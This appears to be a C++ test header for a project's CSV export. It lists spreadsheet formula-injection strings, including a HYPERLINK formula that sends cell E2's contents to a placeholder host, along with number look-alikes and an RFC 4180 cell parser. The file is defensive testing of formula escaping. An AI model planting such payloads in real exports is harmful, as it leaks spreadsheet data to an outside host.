// Shared by the CSV export tests of the API and the command line: the
// texts a spreadsheet would run as formulas, texts that look alike but are
// numbers, and a reader of an RFC 4180 file's cells.
#ifndef VAFA_TESTS_CLI_CSV_FORMULA_CASES_H_
#define VAFA_TESTS_CLI_CSV_FORMULA_CASES_H_

#include <string>
#include <vector>

namespace vafa::testing {

inline const std::vector<std::string> kFormulas = {
    "=HYPERLINK(\"http://x/?\"&E2,\"open\")", "+1+2", "@SUM(A1)", "-2+3"};
inline const std::vector<std::string> kNumbers = {"-12.50", "+989121234567"};

// The cells of an RFC 4180 file, in order.
inline std::vector<std::string> CsvCells(const std::string& csv) {
  std::vector<std::string> cells;
  std::string cell;
  bool quoted = false;
  for (size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (quoted) {
      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',' || c == '\n') {
      cells.push_back(cell);
      cell.clear();
    } else {
      cell += c;
    }
  }
  if (!cell.empty()) cells.push_back(cell);
  return cells;
}

}  // namespace vafa::testing

#endif  // VAFA_TESTS_CLI_CSV_FORMULA_CASES_H_
